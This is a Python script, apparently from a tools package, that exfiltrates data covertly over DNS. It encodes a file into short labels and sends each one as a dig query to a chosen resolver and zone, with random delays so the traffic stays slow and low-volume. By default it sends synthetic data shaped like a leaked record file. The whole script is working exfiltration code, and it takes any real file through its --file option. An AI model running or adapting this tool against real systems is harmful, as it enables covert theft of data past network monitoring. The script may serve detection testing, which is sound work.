"""Slow, low-volume DNS exfiltration, the way a careful script does it: the file in base32
(or hex, base64url), cut into short labels, one A (or --qtype) query every `--min-gap`..`--max-gap` seconds (uniform jitter),
each query `<chunk>.<sequence>.<zone>` sent with dig to the resolver. Bounded by the file,
`--max-queries` and `--seconds`.

    python -m tools.covert_dns.exfil --server 10.213.7.1 --zone ex.tun-h.example \\
        --bytes 400 --min-gap 2 --max-gap 10 --max-queries 40 --seconds 400
"""

from __future__ import annotations

import argparse
import base64
import random
import subprocess
import time


ENCODERS = {
    "base32": lambda d: base64.b32encode(d).decode().rstrip("=").lower(),
    "hex": lambda d: d.hex(),
    "base64url": lambda d: base64.urlsafe_b64encode(d).decode().rstrip("="),
}


def chunks(data: bytes, rng: random.Random, lo: int, hi: int, encoding: str = "base32") -> list[str]:
    """The encoded data cut into pieces of lo..hi characters; pieces longer than a label
    (63) are split into several labels."""
    text = ENCODERS[encoding](data)
    out, i = [], 0
    while i < len(text):
        n = rng.randint(lo, hi)
        piece = text[i:i + n]
        out.append(".".join(piece[j:j + 63] for j in range(0, len(piece), 63)))
        i += n
    return out


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--server", required=True)
    ap.add_argument("--zone", required=True)
    ap.add_argument("--file", help="file to send (default: --bytes of seeded random text)")
    ap.add_argument("--bytes", type=int, default=400)
    ap.add_argument("--seed", type=int, default=4)
    ap.add_argument("--min-gap", type=float, default=2.0)
    ap.add_argument("--max-gap", type=float, default=10.0)
    ap.add_argument("--label-min", type=int, default=6)
    ap.add_argument("--label-max", type=int, default=12)
    ap.add_argument("--encoding", choices=sorted(ENCODERS), default="base32")
    ap.add_argument("--qtype", default="A")
    ap.add_argument("--max-queries", type=int, default=40)
    ap.add_argument("--seconds", type=float, default=400)
    args = ap.parse_args()
    rng = random.Random(args.seed)
    if args.file:
        with open(args.file, "rb") as fh:
            data = fh.read()
    else:  # something that looks like a leaked record file
        data = "".join(f"user{rng.randrange(10**6)},{rng.randrange(10**9)},{rng.random():.6f}\n"
                       for _ in range(args.bytes // 20)).encode()[: args.bytes]
    deadline = time.monotonic() + args.seconds
    for seq, chunk in enumerate(chunks(data, rng, args.label_min, args.label_max, args.encoding)[: args.max_queries]):
        if time.monotonic() > deadline:
            break
        subprocess.run(["dig", f"@{args.server}", f"{chunk}.{seq:x}.{args.zone}", args.qtype, "+tries=1",
                        "+time=2", "+short"], capture_output=True, timeout=10, check=False)
        time.sleep(rng.uniform(args.min_gap, args.max_gap))


if __name__ == "__main__":
    main()
